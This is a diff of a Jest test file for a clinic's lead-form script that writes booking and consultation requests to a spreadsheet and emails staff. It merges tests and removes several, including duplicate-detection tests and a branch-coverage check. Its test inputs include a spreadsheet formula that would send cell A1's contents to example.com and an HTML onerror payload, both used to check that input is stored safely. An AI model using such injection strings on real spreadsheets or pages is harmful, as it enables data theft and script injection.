@@ -1,29 +1,9 @@
 /** @jest-environment node */
-import path from "node:path";
-import { FakeGoogle, FakeSheet } from "./fake-google";
+import { FakeGoogle } from "./fake-google";
 import { leadForms } from "./lead.js";
-import { Walked } from "./walked";
+import { sampleLeads, without, type Fields } from "./sample-leads";
 
-const booking = {
-  parentName: "Asha Sen",
-  phoneNumber: "09876543210",
-  location: "delhi CR Park",
-  serviceRequest: "Speech therapy",
-  timestamp: "2026-11-21T06:59:58.123Z",
-};
-
-const consultation = {
-  childName: "Ravi",
-  dob: "2019-08-24",
-  gender: "Male",
-  parentName: "Asha Sen",
-  contact: "9876543210",
-  email: "",
-  address: "12 Market 1\nCR Park",
-  serviceRequest: "",
-  timestamp: "2026-11-21T06:59:58.123Z",
-};
-
+const { booking, consultation } = sampleLeads;
 const receivedAt = "2026-11-21T12:30:00+05:30";
 const trouble = "Your request could not be saved just now.";
 
@@ -38,69 +18,33 @@ beforeEach(() => {
   });
 });
 
-const walked = new Walked(path.join(__dirname, "code.js"));
-beforeAll(() => walked.start());
-afterEach(() => walked.note());
-afterAll(() => walked.end());
-
 /** Posts as Google hands it over: arrays of values by name. */
-function post(fields: Record<string, string>) {
-  const parameters = Object.fromEntries(
-    Object.entries(fields).map(([name, value]) => [name, [value]]),
-  );
-  return script.doPost({ parameter: fields, parameters });
-}
+const post = (fields: Fields) =>
+  script.doPost({
+    parameters: Object.fromEntries(
+      Object.entries(fields).map(([name, value]) => [name, [value]]),
+    ),
+  });
 
-const result = (fields: Record<string, string>) =>
+const result = (fields: Fields) =>
   JSON.parse(post(fields).body) as { ok: boolean; error?: string };
 
 const rows = (tab = "Booking") => google.sheets?.[tab]?.rows.slice(1) ?? [];
 
-function without(name: string, fields: Record<string, string>) {
-  return Object.fromEntries(
-    Object.entries(fields).filter(([key]) => key !== name),
-  );
-}
-
 describe("a request sent by the site", () => {
-  test("is one row with the server's time, and the answer says so", () => {
-    const answer = post(booking);
-
-    expect(answer).toEqual({ type: "json", body: '{"ok":true}' });
-    expect(rows()).toEqual([[...Object.values(booking), receivedAt]]);
-    expect(google.flushed).toBe(1);
-    expect(google.locked).toBe(false);
-  });
-
-  test("goes to the tab of its form, which is made with its header row if missing", () => {
-    post(booking);
+  test("is one row with the server's time in the tab of its form, and the answer says so", () => {
+    expect(post(booking)).toEqual({ type: "json", body: '{"ok":true}' });
     post(consultation);
 
-    expect(google.sheets!.Booking!.rows[0]).toEqual([
-      ...leadForms.booking,
-      "receivedAt",
-    ]);
-    expect(google.sheets!.Consultation!.rows[0]).toEqual([
-      ...leadForms.consultation,
-      "receivedAt",
-    ]);
-    expect(google.sheets!.Booking!.frozen).toBe(1);
-    expect(rows("Consultation")).toEqual([
-      [...Object.values(consultation), receivedAt],
-    ]);
-  });
-
-  test("gets a header row above it where the clinic deleted that row", () => {
-    const sheet = (google.sheets!.Booking = new FakeSheet());
-    sheet.rows.push(["An older", "request"]);
-
-    post(booking);
-
-    expect(sheet.rows.map((row) => row[0])).toEqual([
-      "parentName",
-      "An older",
-      "Asha Sen",
-    ]);
+    const tabs = { Booking: booking, Consultation: consultation };
+    for (const [tab, lead] of Object.entries(tabs))
+      expect(google.sheets![tab]!.rows).toEqual([
+        [...Object.keys(lead), "receivedAt"],
+        [...Object.values(lead), receivedAt],
+      ]);
+    expect(google.sheets!.Booking!.frozenRows).toBe(1);
+    expect(google.flushed).toBe(2);
+    expect(google.locked).toBe(false);
   });
 
   test("finds room in a full sheet", () => {
@@ -110,91 +54,17 @@ describe("a request sent by the site", () => {
     expect(rows()).toHaveLength(6);
   });
 
-  test("reads in Hindi and emoji as typed", () => {
-    const typed = "मेरी बेटी 👨‍👩‍👧\nबोलती नहीं";
-
-    post({ ...booking, parentName: "आशा सेन", serviceRequest: typed });
-
-    expect(rows()[0]).toEqual(expect.arrayContaining(["आशा सेन", typed]));
-  });
-
-  test("cannot run as a formula, and +91 stays readable", () => {
-    const formula = '=IMPORTXML("http://example.com/?"&A1,"//a")';
-
-    post({
+  test("reads as typed: Hindi, line breaks, a zero in front, and formulas that do not run", () => {
+    const typed = {
       ...booking,
-      parentName: formula,
-      phoneNumber: "+91 98765 43210",
-      serviceRequest: "＝1",
-    });
+      parentName: '=IMPORTXML("http://example.com/?"&A1,"//a")',
+      phoneNumber: "09876543210",
+      serviceRequest: "मेरी बेटी 👨‍👩‍👧\nबोलती नहीं",
+    };
 
-    expect(rows()[0]!.slice(0, 4)).toEqual([
-      formula,
-      "+91 98765 43210",
-      "delhi CR Park",
-      "＝1",
-    ]);
-  });
-});
+    post(typed);
 
-describe("a repeat within ten minutes", () => {
-  const later = (minutes: number) => (google.now += minutes * 60_000);
-  const again = { ...booking, timestamp: "2026-11-21T07:03:00.000Z" };
-
-  test("is thanked for and dropped, without a second mail", () => {
-    post(booking);
-    later(9);
-
-    expect(result(again)).toEqual({ ok: true });
-    expect(rows()).toHaveLength(1);
-    expect(google.mails).toHaveLength(1);
-  });
-
-  test("is known from the rows when the cache has forgotten it", () => {
-    const formula = { ...booking, phoneNumber: "+91 98765 43210" };
-    post(formula);
-    google.cached.clear();
-    later(9);
-
-    expect(result(formula)).toEqual({ ok: true });
-    expect(rows()).toHaveLength(1);
-  });
-
-  test("is known from the rows when the cache is out of order", () => {
-    google.cacheWorks = false;
-    post(booking);
-
-    expect(result(again)).toEqual({ ok: true });
-    expect(rows()).toHaveLength(1);
-    expect(google.log.join()).toContain("cache");
-  });
-
-  test("is a new request once ten minutes have passed", () => {
-    post(booking);
-    google.cached.clear();
-    later(10);
-
-    post(again);
-
-    expect(rows()).toHaveLength(2);
-  });
-
-  test("is not mistaken for another child's request", () => {
-    post(consultation);
-    google.cached.clear();
-    post({ ...consultation, childName: "Rani" });
-
-    expect(rows("Consultation")).toHaveLength(2);
-  });
-
-  test("is not looked for in rows whose time was edited away", () => {
-    post(booking);
-    google.cached.clear();
-    rows()[0]![5] = "called back";
-
-    post(booking);
-
-    expect(rows()).toHaveLength(2);
+    expect(rows()).toEqual([[...Object.values(typed), receivedAt]]);
   });
 });
 
@@ -217,25 +87,20 @@ describe("two posts at once", () => {
 });
 
 describe("the parent is told the truth", () => {
-  test("when the lock is not granted", () => {
-    google.lockGranted = false;
-
-    expect(result(booking)).toEqual({ ok: false, error: trouble });
-    expect(rows()).toEqual([]);
-  });
-
   test("when the row cannot be written; the lock is free and a second try works", () => {
-    const sheet = (google.sheets!.Booking = new FakeSheet());
-    sheet.failAppend = true;
+    post(consultation);
+    const sheet = google.sheets!.Consultation!;
+    const lead = { ...consultation, childName: "Rani" };
+    sheet.isFailing = true;
 
-    expect(result(booking)).toEqual({ ok: false, error: trouble });
+    expect(result(lead)).toEqual({ ok: false, error: trouble });
     expect(google.locked).toBe(false);
-    expect(google.mails).toEqual([]);
+    expect(google.mails).toHaveLength(1);
     expect(google.log.join()).not.toContain("Asha");
 
-    sheet.failAppend = false;
-    expect(result(booking)).toEqual({ ok: true });
-    expect(rows()).toHaveLength(1);
+    sheet.isFailing = false;
+    expect(result(lead)).toEqual({ ok: true });
+    expect(rows("Consultation")).toHaveLength(2);
   });
 
   test("when the script belongs to no spreadsheet", () => {
@@ -245,7 +110,7 @@ describe("the parent is told the truth", () => {
     expect(google.log.join()).toContain("no spreadsheet");
   });
 
-  test("when a field is unknown, repeated or a megabyte long", () => {
+  test("when a field is unknown, too long or repeated", () => {
     const twice = { parentName: ["A", "B"], location: ["x"], timestamp: ["t"] };
 
     expect(result({ ...booking, card: "1" }).error).toContain('"card"');
@@ -258,24 +123,22 @@ describe("the parent is told the truth", () => {
     expect(google.sheets).toEqual({});
   });
 
-  test("when nothing came at all", () => {
-    for (const event of [undefined, null, {}, { parameters: {} }])
-      expect(JSON.parse(script.doPost(event).body)).toEqual({
-        ok: false,
-        error:
-          "These are not the fields of the booking form or of the consultation form.",
-      });
-  });
-
-  test("when what came is not what Google promises", () => {
-    for (const parameters of [{ parentName: null }, { location: 5 }])
-      expect(JSON.parse(script.doPost({ parameters }).body).ok).toBe(false);
+  test("when nothing came, or what Google does not promise", () => {
+    for (const event of [
+      undefined,
+      null,
+      {},
+      { parameters: {} },
+      { parameters: { parentName: null } },
+      { parameters: { location: 5 } },
+    ])
+      expect(JSON.parse(script.doPost(event).body).ok).toBe(false);
   });
 });
 
 describe("the clinic's mail", () => {
   test("names each field that was filled in, and no person in its subject", () => {
-    post(consultation);
+    post({ ...consultation, email: "" });
 
     const [mail] = google.mails;
     expect(mail!.to).toBe("desk@example.in");
@@ -289,9 +152,8 @@ describe("the clinic's mail", () => {
     post({ ...booking, parentName: `<img src=x onerror="a('&')">` });
 
     expect(google.mails[0]!.htmlBody).toContain(
-      "&lt;img src=x onerror=&quot;a(&#39;&amp;&#39;)&quot;&gt;",
+      "&lt;img src=x onerror=&quot;a('&amp;')&quot;&gt;",
     );
-    expect(google.mails[0]!.htmlBody).not.toContain("<img");
   });
 
   test("never costs the row when the quota is spent", () => {
@@ -316,10 +178,9 @@ describe("a browser that posted without scripts", () => {
   test("shows a thank-you page, and the row has the server's time", () => {
     const answer = post(native);
 
-    expect(answer.type).toBe("html");
-    expect(answer.title).toBe("Thank you");
+    expect(answer).toMatchObject({ type: "html", title: "Thank you" });
     expect(answer.body).toContain('<html lang="en">');
-    expect(answer.body).toContain("We&#39;ll get back to you soon.");
+    expect(answer.body).toContain("We'll get back to you soon.");
     expect(answer.body).toContain('href="tel:+911123456789"');
     expect(rows()[0]![4]).toBe("2026-11-21T07:00:00.000Z");
   });
@@ -332,23 +193,6 @@ describe("a browser that posted without scripts", () => {
     expect(answer.body).not.toContain("<script>");
     expect(answer.body).toContain("tel:");
     expect(rows()).toEqual([]);
-  });
-
-  test("is told when the row could not be written", () => {
-    google.sheets = undefined;
-
-    expect(post(native).body).toContain(trouble);
-  });
-
-  test("sends its service request under the input's own name", () => {
-    const markup = without(
-      "serviceRequest",
-      without("timestamp", consultation),
-    );
-
-    post({ ...markup, medicalHistory: "None" });
-
-    expect(rows("Consultation")[0]![7]).toBe("None");
   });
 
   test("gets a page without a phone line where the clinic gives none", () => {
@@ -366,9 +210,4 @@ describe("a browser that posted without scripts", () => {
 
 test("the health check answers", () => {
   expect(script.doGet().body).toBe('{"ok":true,"service":"k7-leads"}');
-});
-
-// The last of the file: it looks back on all the others.
-test("these tests walk through every branch of the script", () => {
-  expect(walked.idleLines()).toEqual([]);
 });
